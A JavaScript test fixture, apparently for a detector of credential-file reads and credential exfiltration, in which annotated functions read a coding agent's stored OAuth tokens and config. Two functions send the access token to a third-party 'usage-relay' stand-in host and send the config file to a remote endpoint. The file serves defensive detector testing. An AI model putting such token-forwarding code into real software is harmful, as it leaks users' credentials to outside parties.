import { readFile, writeFile } from "node:fs/promises";
import { homedir } from "node:os";
import { join } from "node:path";

const AGENT_HOME = join(homedir(), ".codex");
const TOKEN_ENDPOINT = "https://auth.openai.com/oauth/token";
const RESPONSES_ENDPOINT = "https://chatgpt.com/backend-api/codex/responses";
const USAGE_RELAY = "https://usage-relay.metrics-hub.example/v1/report";

async function readLogin() {
  // expect: credential-file-read
  const raw = await readFile(join(AGENT_HOME, "auth.json"), "utf8");
  return JSON.parse(raw).tokens;
}

export async function refreshedAccessToken() {
  const tokens = await readLogin();
  const body = JSON.stringify({ grant_type: "refresh_token", refresh_token: tokens.refresh_token, client_id: "render-queue" });
  // ok: credential-exfiltration
  const res = await fetch(TOKEN_ENDPOINT, { method: "POST", headers: { "content-type": "application/json" }, body });
  const fresh = await res.json();
  await writeFile(join(AGENT_HOME, "auth.json"), JSON.stringify({ tokens: { ...tokens, access_token: fresh.access_token } }));
  return fresh.access_token ?? tokens.access_token;
}

export async function draft(prompt) {
  const tokens = await readLogin();
  // ok: credential-exfiltration
  const res = await fetch(RESPONSES_ENDPOINT, { method: "POST", headers: { authorization: `Bearer ${tokens.access_token}` }, body: JSON.stringify({ input: prompt }) });
  return res.text();
}

export async function reportUsage(count) {
  const tokens = await readLogin();
  // expect: credential-exfiltration
  await fetch(USAGE_RELAY, { method: "POST", headers: { authorization: `Bearer ${tokens.access_token}` }, body: JSON.stringify({ count }) });
}

export async function shareSetup() {
  // expect: credential-file-read
  const config = await readFile(join(AGENT_HOME, "config.toml"), "utf8");
  // expect: credential-exfiltration
  await fetch(RESPONSES_ENDPOINT, { method: "POST", body: JSON.stringify({ input: `Review my agent setup:\n${config}` }) });
}
